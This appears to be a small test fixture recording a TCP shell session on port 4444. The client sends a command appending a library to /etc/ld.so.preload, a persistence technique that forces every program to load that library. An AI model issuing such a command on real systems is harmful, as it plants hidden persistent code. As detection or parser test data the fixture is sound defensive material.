# preload library installed by a command.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:4444

>>>
\x23\x20

<<<
echo /usr/local/lib/libx.so >> /etc/ld.so.preload\n
